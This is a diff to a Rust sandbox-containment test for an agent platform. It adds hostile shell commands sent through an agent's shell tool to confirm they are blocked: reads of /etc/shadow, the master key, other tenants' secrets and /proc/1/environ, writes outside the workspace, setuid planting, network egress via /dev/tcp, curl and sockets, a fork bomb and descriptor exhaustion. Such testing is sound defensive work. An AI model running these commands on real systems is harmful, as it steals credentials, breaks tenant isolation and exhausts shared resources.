@@ -17,6 +17,7 @@ use super::support::{Env, Server, write};
 const CANARY_SECRET: &str = "canary-secret-7f3a9c1e55";
 const CANARY_ENV: &str = "canary-env-b41d0e9a27";
 const CANARY_TENANT_B: &str = "canary-tenant-b-99e2c4";
+const CANARY_SAME_TENANT: &str = "canary-carol-5b1f07";
 
 struct Corpus {
     attempted: u32,
@@ -72,6 +73,10 @@ fn setup() -> Env {
     let bob_ws =
         env.run(&["--tenant", "other", "agents", "workspace", "bob"]).ok().stdout.trim().to_owned();
     write(&Path::new(&bob_ws).join("secret.txt"), CANARY_TENANT_B);
+    // Another agent of alice's own tenant.
+    env.run(&["agents", "create", "carol"]).ok();
+    let carol_ws = env.run(&["agents", "workspace", "carol"]).ok().stdout.trim().to_owned();
+    write(&Path::new(&carol_ws).join("secret.txt"), CANARY_SAME_TENANT);
     env.run_with_stdin(&["--agent", "alice", "secrets", "set", "CANARY_KEY"], CANARY_SECRET).ok();
     write(
         &env.data_dir().join("clade.yaml"),
@@ -92,6 +97,7 @@ async fn attack_corpus_is_blocked_or_contained() {
     let alice_ws = env.run(&["agents", "workspace", "alice"]).ok().stdout.trim().to_owned();
     let bob_ws =
         env.run(&["--tenant", "other", "agents", "workspace", "bob"]).ok().stdout.trim().to_owned();
+    let carol_ws = env.run(&["agents", "workspace", "carol"]).ok().stdout.trim().to_owned();
     let master_key = std::fs::read_to_string(data.join("master.key")).unwrap_or_default();
     let shadow_head = std::fs::read_to_string("/etc/shadow")
         .unwrap_or_default()
@@ -172,6 +178,79 @@ async fn attack_corpus_is_blocked_or_contained() {
         corpus.record(name, !leaked, &out);
     }
 
+    // The same reads and writes through every common way to read or write a file.
+    let readers = [
+        "cat {}",
+        "head -c 4096 {}",
+        "tail -c 4096 {}",
+        "dd if={} bs=4096 count=1 status=none",
+        "base64 {}",
+        "python3 -c 'print(open(\"{}\").read())'",
+        "cp {} ./copied && cat ./copied",
+        "grep -a . {}",
+        "od -c {} | head -50",
+        "perl -pe '' {}",
+        "awk 1 {}",
+        "sed -n p {}",
+    ];
+    let secrets_at = [
+        ("/etc/shadow".to_owned(), shadow_head.clone()),
+        (format!("{data_text}/master.key"), master_key.trim().to_owned()),
+        (format!("{bob_ws}/secret.txt"), CANARY_TENANT_B.to_owned()),
+        (format!("/proc/self/root{bob_ws}/secret.txt"), CANARY_TENANT_B.to_owned()),
+        ("/proc/1/environ".to_owned(), CANARY_ENV.to_owned()),
+        (format!("{carol_ws}/secret.txt"), CANARY_SAME_TENANT.to_owned()),
+        (format!("{data_text}/clade.db"), "SQLite format 3".to_owned()),
+    ];
+    for reader in readers {
+        for (path, secret) in &secrets_at {
+            let out = shell(&server, &reader.replace("{}", path)).await;
+            let leaked = !secret.is_empty() && out.contains(secret.as_str());
+            corpus.record(&format!("{reader} on {path}"), !leaked, &out);
+        }
+    }
+    let writers = [
+        "echo x > {}",
+        "echo x | tee {}",
+        "cp /usr/bin/env {}",
+        "touch {}",
+        "mkdir -p {}",
+        "python3 -c 'open(\"{}\", \"w\").write(\"x\")'",
+        "dd if=/dev/zero of={} count=1 status=none",
+        "ln -s /etc/passwd {}",
+    ];
+    let host_targets = [
+        env.tmp.path().join("w1"),
+        data.join("w2"),
+        Path::new(&bob_ws).join("w3"),
+        Path::new("/usr/local/clade-w4").to_owned(),
+        Path::new("/etc/clade-w5").to_owned(),
+        Path::new(&carol_ws).join("w6"),
+        data.join("clade.yaml-w7"),
+    ];
+    for writer in writers {
+        for target in &host_targets {
+            let shown = target.display().to_string();
+            let _ = std::fs::remove_file(target);
+            let out = shell(&server, &writer.replace("{}", &shown)).await;
+            corpus.record(
+                &format!("{writer} on {shown}"),
+                std::fs::symlink_metadata(target).is_err(),
+                &out,
+            );
+        }
+        let out = shell(
+            &server,
+            &writer.replace("{}", &format!("/proc/self/root{}", host_targets[0].display())),
+        )
+        .await;
+        corpus.record(
+            &format!("{writer} via /proc/self/root"),
+            std::fs::symlink_metadata(&host_targets[0]).is_err(),
+            &out,
+        );
+    }
+
     // Network egress without a grant.
     let (host_listener, port) = listener();
     for (name, command) in [
@@ -202,6 +281,42 @@ async fn attack_corpus_is_blocked_or_contained() {
         corpus.record(name, !out.contains("leak") && host_socket.accept().is_err(), &out);
     }
 
+    // A setuid file planted in the workspace does not stay setuid on the host.
+    let out = shell(&server, "cp /usr/bin/id ./suid-id && chmod 4755 ./suid-id && mkdir -p d && cp /usr/bin/id d/sgid && chmod 2755 d/sgid").await;
+    let planted = ["suid-id", "d/sgid"].iter().any(|f| {
+        std::fs::metadata(Path::new(&alice_ws).join(f))
+            .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o6000 != 0)
+            .unwrap_or(false)
+    });
+    corpus.record("setuid file planted on the host", !planted, &out);
+
+    // Every way to reach the network, to every kind of destination.
+    let (net_listener, net_port) = listener();
+    let clients = [
+        "bash -c 'echo hi > /dev/tcp/{h}/{p}' && echo sent",
+        "curl -sS -m 2 http://{h}:{p}/ && echo sent",
+        "wget -q -T 2 -O- http://{h}:{p}/ && echo sent",
+        "python3 -c 'import socket; socket.create_connection((\"{h}\", {p}), 2); print(\"sent\")'",
+        "python3 -c 'import socket; s=socket.socket(socket.AF_INET6 if \":\" in \"{h}\" else socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"x\", (\"{h}\", {p})); print(\"sent\")'",
+        "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => \"{h}:{p}\", Timeout => 2) and print \"sent\"'",
+    ];
+    // A datagram "sent" to loopback lands on the sandbox's own loopback; what counts for UDP
+    // is whether the host's socket received it.
+    let udp = std::net::UdpSocket::bind(("127.0.0.1", net_port)).unwrap();
+    udp.set_nonblocking(true).unwrap();
+    let port_text = net_port.to_string();
+    for client in clients {
+        for host in ["127.0.0.1", "::1", "1.1.1.1", "10.0.0.1", "localhost"] {
+            let command = client.replace("{h}", host).replace("{p}", &port_text);
+            let out = shell(&server, &command).await;
+            let datagram = client.contains("SOCK_DGRAM");
+            let sent = !datagram && out.lines().any(|l| l.trim() == "sent");
+            let received = udp.recv(&mut [0u8; 16]).is_ok();
+            let blocked = !sent && !received && !was_reached(&net_listener);
+            corpus.record(&format!("network {host} by {}", &client[..12]), blocked, &out);
+        }
+    }
+
     // Privilege and host processes.
     let server_pid = server.child.id();
     for (name, command) in [
@@ -226,6 +341,39 @@ async fn attack_corpus_is_blocked_or_contained() {
         );
     }
 
+    // G3: the API's latency while a tool spins every core it can get (a figure, not a gate).
+    let p99 = |mut samples: Vec<Duration>| {
+        samples.sort();
+        samples[samples.len() * 99 / 100 - 1]
+    };
+    let mut baseline = Vec::new();
+    for _ in 0..100 {
+        let started = std::time::Instant::now();
+        server.send("GET", "/v1/agents", None, None).await;
+        baseline.push(started.elapsed());
+    }
+    let attack = {
+        let url = format!("{}/v1/agents/alice/tools/shell.exec/call", server.url);
+        let token = server.token.clone();
+        let body = json!({ "arguments": { "command": "for i in 1 2 3 4; do (while :; do :; done) & done; b() { b | b & }; b; wait" } });
+        tokio::spawn(async move {
+            reqwest::Client::new().post(url).bearer_auth(token).json(&body).send().await.unwrap()
+        })
+    };
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let mut loaded = Vec::new();
+    for _ in 0..100 {
+        let started = std::time::Instant::now();
+        server.send("GET", "/v1/agents", None, None).await;
+        loaded.push(started.elapsed());
+    }
+    attack.await.unwrap();
+    let (before, during) = (p99(baseline), p99(loaded));
+    println!(
+        "API p99 before {before:?}, during a CPU + fork attack {during:?} ({:.2}x)",
+        during.as_secs_f64() / before.as_secs_f64()
+    );
+
     // Resource exhaustion: contained, and the server keeps serving.
     for (name, command, expect) in [
         ("fork bomb", "b() { b | b & }; b; sleep 1", ""),
@@ -237,6 +385,11 @@ async fn attack_corpus_is_blocked_or_contained() {
         ("infinite loop", "while :; do :; done", ""),
         ("gigabytes of output", "yes AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", ""),
         ("disk fill", "head -c 2000000000 /dev/zero > big; ls -la big", ""),
+        (
+            "descriptor exhaustion",
+            "python3 -c 'import os; fds=[os.open(\"/dev/null\", 0) for _ in range(100000)]; print(\"opened\", len(fds))'",
+            "opened",
+        ),
         (
             "escape the deadline",
             "setsid sh -c 'sleep 30; echo late > /workspace/late' & disown; echo started",
